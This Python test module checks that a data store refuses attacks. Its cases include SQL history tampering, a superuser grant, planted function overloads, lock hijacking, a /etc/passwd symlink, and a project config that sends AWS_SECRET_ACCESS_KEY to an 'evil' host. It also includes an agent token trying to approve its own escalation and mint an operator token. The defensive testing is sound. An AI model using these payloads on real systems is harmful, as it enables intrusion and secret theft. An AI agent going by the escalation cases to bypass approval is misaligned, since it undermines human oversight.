"""Those who hold no key and no database: SQL of services, callers over HTTP, files and projects that are handed in.

And what whoever has the database can do to what is derived from it: the history of objects, the index for searching,
the list of files that an erasure removes.
"""

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from functools import partial
from pathlib import Path
from typing import Any, Final

import apsw
import httpx
import psycopg

from holdproof import config, errors, sync
from holdproof.config import Paths
from holdproof.urls import redact
from proof.attacks.attacked_store import Lab, Place
from proof.attacks.matrix import FULL, LOADING, NOTHING, PLAIN, REFUSED, ROWS, Attack, Got, examine, refused

SQL: Final = "a token that may run SQL of services"
NOBODY: Final = "the address of the server"
AGENT: Final = "an agent's token"
FILE: Final = "a file that is imported"
PROJECT: Final = "a repository that is cloned"
_HARMLESS: Final = "it is let in and comes to nothing: the store works and verifies"
_ENOUGH_S: Final = 20.0


def attacks(lab: Lab) -> Iterator[Attack]:
    """All that this database allows."""
    yield from _derived(lab.template.url is None)
    yield from _sql(lab.template.url is None)
    yield from _requests()
    for name, make in _IMPORTS.items():
        yield Attack("import", name, FILE, partial(_import, make), (REFUSED,), (LOADING,), locks=False, shares=True)
    for name, text in _PROJECTS.items():
        act = partial(_project, text)
        yield Attack("project", name, PROJECT, act, (REFUSED,), (LOADING,), locks=False, shares=True)
    act = partial(_print_password, "postgresql://ada:se/cret@localhost/x")
    yield Attack("messages", "a password with a slash", NOBODY, act, (REFUSED,), (LOADING,), locks=False, shares=True)


# --- what is derived ---------------------------------------------------------------------------------------------

_HISTORY: Final = {
    "older versions deleted": "DELETE FROM object_versions WHERE key = 'o01' AND n < 2",
    "two versions swapped": "UPDATE object_versions SET cid = (SELECT o.cid FROM object_versions o WHERE o.key = 'o01'"
    " AND o.ns = object_versions.ns AND o.n = 3 - object_versions.n) WHERE key = 'o01' AND n IN (1, 2)",
    "all times changed": "UPDATE object_versions SET at = '2020-01-01T00:00:00.000000Z'",
    "all version numbers changed": "UPDATE object_versions SET version = version + 5",
    "the history of a deleted object removed": "DELETE FROM object_versions WHERE key = 'o02'",
    "an older version made another object": "UPDATE object_versions SET cid = (SELECT o.cid FROM object_versions o"
    " WHERE o.key = 'o03' AND o.n = 1) WHERE key = 'o01' AND n = 1",
}
_SEARCH: Final = {
    "every word removed from the index": "INSERT INTO object_search (object_search) VALUES ('delete-all')",
    "the words of one object removed from the index": (
        "INSERT INTO object_search (object_search, rowid, body) SELECT 'delete', id, body FROM object_text LIMIT 1"
    ),
    "foreign words added to the index": (
        "INSERT INTO object_search (rowid, body) SELECT id, 'planted words' FROM object_text LIMIT 1"
    ),
}


def _derived(embedded: bool) -> Iterator[Attack]:
    for name, statement in _HISTORY.items():
        yield Attack("history of objects", name, ROWS, partial(_run, statement), by=(PLAIN, FULL))
    yield Attack("erasure", "files of the store named as to be removed", ROWS, _name_files, names="erasures")
    if embedded:
        for name, statement in _SEARCH.items():
            yield Attack("search", name, ROWS, partial(_run, statement), by=(PLAIN, FULL), locks=None)


def _run(statement: str, place: Place) -> None:
    place.past.run(statement)


def _name_files(place: Place) -> Got:
    """Opening must not remove what an edited row names; then the row is found."""
    theirs = place.home / "dboms" / "dbom_b3.json"
    place.past.ask("UPDATE erasures SET files = ?", json.dumps([f"dboms/{theirs.name}"]))
    with place.open():
        pass
    if not theirs.exists():
        return Got("REMOVED", 0, False, NOTHING, f"{theirs.name} was removed")
    return examine(place, "erasures")


# --- SQL of services ---------------------------------------------------------------------------------------------

_STATEMENTS: Final = {
    "a trigger that keeps every row of sessions": (
        "CREATE TRIGGER k BEFORE DELETE ON cli_sessions BEGIN SELECT RAISE(IGNORE); END"
    ),
    "a view over the secret of the labels": "CREATE VIEW v AS SELECT * FROM subject_facts",
    "an index over a table of the store": "CREATE INDEX i ON blobs (key)",
}
_SERVER_STATEMENTS: Final = {
    "a function in a schema of the store": (
        "CREATE FUNCTION kernel.lower(integer) RETURNS integer LANGUAGE sql AS 'SELECT 1'"
    ),
    "a table of the kernel read": "SELECT * FROM kernel.subjects",
    "the login of services given more": "ALTER ROLE CURRENT_USER SUPERUSER",
}
# The exact match of a call with one number: it would run with the owner's rights.
_OVERLOAD: Final = (
    "CREATE FUNCTION pg_advisory_xact_lock(integer) RETURNS integer LANGUAGE plpgsql"
    " AS $$ BEGIN RAISE EXCEPTION 'planted'; END $$;"
    "CREATE FUNCTION hashtextextended(text, integer) RETURNS bigint LANGUAGE plpgsql"
    " AS $$ BEGIN RAISE EXCEPTION 'planted'; END $$"
)


def _sql(embedded: bool) -> Iterator[Attack]:
    area = "SQL of services"
    for name, statement in (_STATEMENTS if embedded else _SERVER_STATEMENTS).items():
        yield Attack(area, name, SQL, partial(_execute, statement), (REFUSED,), (LOADING,), locks=False)
    if embedded:
        yield Attack(
            area,
            "one call that compares every place of a long text",
            SQL,
            _compare,
            ("VALID",),
            (NOTHING,),
            locks=False,
            design=_HARMLESS,
        )
        return
    for name, act in {"a function planted in front of the server's": _plant, "locks of the store taken": _lock}.items():
        yield Attack(area, name, SQL, act, ("VALID",), (NOTHING,), locks=False, design=_HARMLESS)


def _execute(statement: str, place: Place) -> Got:
    with place.open() as store:
        try:
            store.relational.execute(statement)
        except errors.HoldproofError as error:
            return refused(error, LOADING)
    return Got("DONE", 0, False, NOTHING, statement)


def _compare(place: Place) -> Got | None:
    """Four megabytes sought in eight: other writers must not wait for it."""
    begun = time.monotonic()
    with place.open() as store:
        store.relational.fetch_one(
            "SELECT instr(:text, :part) AS x", {"text": "a" * 8_000_000, "part": "a" * 4_000_000}
        )
        store.blobs.put("another", b"service")
    took_s = time.monotonic() - begun
    return Got("SLOW", 0, False, NOTHING, f"{took_s:.0f} s") if took_s > _ENOUGH_S else None


def _plant(place: Place) -> None:
    """Plant it, open everything anew, and work: nothing of it may be called."""
    with place.open() as store:
        store.relational.execute(_OVERLOAD)
    with place.open() as store:
        store.blobs.put("another", b"service")
        store.objects.put("another", type="t")


def _lock(place: Place) -> Got | None:
    assert place.url is not None
    with place.open() as store:
        store.relational.execute("CREATE TABLE mine (x TEXT)")
    with psycopg.connect(place.url) as owner:
        [(name, password)] = owner.execute("SELECT name, password FROM membrane.membrane_login").fetchall()
    login = psycopg.conninfo.make_conninfo(place.url, user=name, password=password)
    with closing(psycopg.connect(login, autocommit=True)) as attacker:
        for lock in ("sequencer", "schema", "migrations", "login"):
            attacker.execute("SELECT pg_advisory_lock(hashtext(%s))", (f"holdproof {lock}",))
            attacker.execute("SELECT pg_advisory_lock(hashtext(%s), hashtext('kernel'))", (f"holdproof {lock}",))
            attacker.execute("SELECT pg_advisory_lock(hashtextextended(%s, 0))", (f"holdproof {lock}",))
        with place.open() as store:
            store.objects.put("another", type="t")
        return examine(place)


# --- over HTTP ---------------------------------------------------------------------------------------------------


@contextmanager
def _serving(place: Place) -> Iterator[str]:
    """A server over the store, in a process of its own; the address it listens at."""
    where = ["--home", str(place.home), *(["--url", place.url] if place.url else [])]
    command = [sys.executable, "-m", "holdproof", *where, "up", "--port", "0", "--json"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    assert process.stdout is not None
    try:
        text = ""
        for line in process.stdout:
            text += line
            if line.startswith("}"):
                break
        yield str(json.loads(text)["address"])
    finally:
        process.terminate()
        process.communicate(timeout=60)


def _requests() -> Iterator[Attack]:
    for name, (has, path, body) in _BODIES.items():
        act = partial(_request, has, path, body)
        yield Attack("HTTP", name, has, act, (REFUSED,), (LOADING,), locks=False)
    yield Attack(
        "HTTP", "a long body without a token, never sent", NOBODY, _endless, (REFUSED,), (LOADING,), locks=False
    )


_BODIES: Final[dict[str, tuple[str, str, dict[str, Any]]]] = {
    "an agent says how often it may fail": (AGENT, "retries/reject", {"reason": "no", "max_retries": 1_000_000}),
    "an agent goes on while a person is asked": (AGENT, "flows/transition", {"to": "RUNNING"}),
    "an agent writes that it was approved": (
        AGENT,
        "audit/record",
        {"event_type": "ESCALATION_APPROVED", "detail": {}},
    ),
    "an agent answers the person's question": (AGENT, "escalations/resolve", {"outcome": "approve"}),
    "an agent makes itself a token": (AGENT, "tokens/create", {"name": "mine", "role": "operator"}),
    "an agent runs SQL of services": (AGENT, "relational/execute", {"sql": "SELECT 1"}),
    "a call without a token": (NOBODY, "flows/list", {}),
}


def _request(has: str, path: str, body: dict[str, Any], place: Place) -> Got:
    """A flow of the agent's own waits for a person; what is asked must not be done."""
    with place.open() as store:
        token = store.agents.register("asker", version="1.0.0").token
        flow_id = store.flows.start("asker").flow_id
        store.flows.transition(flow_id, "RUNNING")
        store.escalations.request(flow_id, reason="buy?", proposal={"n": 1})
    headers = {"Authorization": f"Bearer asker:{token}"} if has == AGENT else {}
    with _serving(place) as address, httpx.Client(base_url=address, headers=headers, timeout=30) as client:
        answer = client.post(f"/v1/{path}", json={"flow_id": flow_id, **body})
    if answer.status_code in (401, 403):
        return Got(f"{REFUSED} {answer.json()['code']}", answer.status_code, False, LOADING, answer.json()["detail"])
    return Got(f"ANSWERED {answer.status_code}", 0, False, NOTHING, answer.text[:200])


def _endless(place: Place) -> Got:
    """Send the head of a call of 15 MB; the refusal must come before the body does."""
    head = b"POST /v1/contexts/put HTTP/1.1\r\nHost: localhost\r\nContent-Length: 15000000\r\n\r\n"
    with _serving(place) as address:
        port = int(address.rsplit(":", 1)[1])
        begun = time.monotonic()
        with socket.create_connection(("127.0.0.1", port), timeout=_ENOUGH_S) as wire:
            wire.sendall(head)
            try:
                line = wire.recv(1000).partition(b"\r\n")[0].decode()
            except TimeoutError:
                line = ""
        took_s = time.monotonic() - begun
    word = REFUSED if " 401 " in line else "WAITED"
    return Got(f"{word} {line}", 0, False, LOADING if line else NOTHING, f"answered after {took_s:.1f} s")


# --- files and projects that are handed in -----------------------------------------------------------------------


def _database(statement: str, path: Path) -> None:
    with closing(apsw.Connection(str(path))) as connection:
        connection.execute(statement)


_ENDLESS: Final = "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x FROM n WHERE x < 0"
_IMPORTS: Final[dict[str, Callable[[Path], object]]] = {
    "a view that gives no row": partial(_database, f"CREATE VIEW battles AS {_ENDLESS}"),
    "a virtual table": partial(_database, "CREATE VIRTUAL TABLE battles USING fts5(x)"),
    "a pipe": os.mkfifo,
    "a link to a device": lambda path: path.symlink_to("/dev/zero"),
    "a link to a file of somebody else": lambda path: path.symlink_to("/etc/passwd"),
}


def _import(make: Callable[[Path], object], place: Place) -> Got:
    path = place.folder / "battles.db"
    make(path)
    with place.open() as store:
        try:
            store.imports.green_agent(path)
        except errors.HoldproofError as error:
            return refused(error, LOADING)
    return Got("IMPORTED", 0, False, NOTHING, path.name)


_PROJECTS: Final = {
    "names a server": "providers: {relational: {type: postgres, connection: 'postgresql://evil/x'}}",
    "sends a variable": "providers: {blob: {type: s3, connection: 's3://evil/${AWS_SECRET_ACCESS_KEY}'}}",
    "shortens how long data stays": "providers: {telemetry: {retention: {hot_days: 0}}}",
}


def _project(text: str, place: Place) -> Got:
    folder = place.folder / "cloned"
    (folder / ".holdproof").mkdir(parents=True)
    (folder / ".holdproof" / "config.yaml").write_text(text)
    env = {"HOME": str(place.folder), "AWS_SECRET_ACCESS_KEY": "secret"}
    try:
        config.load(paths=Paths.find(place.home), project=folder, env=env)
    except errors.HoldproofError as error:
        return refused(error, LOADING)
    return Got("ALLOWED", 0, False, NOTHING, text)


def _print_password(url: str, place: Place) -> Got:
    try:
        sync.open(place.folder / "new", url).close()
    except errors.HoldproofError as error:
        text = f"{error} {error.fields} {redact(url)}"
        return Got("PRINTED", 0, False, NOTHING, text) if "cret" in text else refused(error, LOADING)
    return Got("OPENED", 0, False, NOTHING, "")
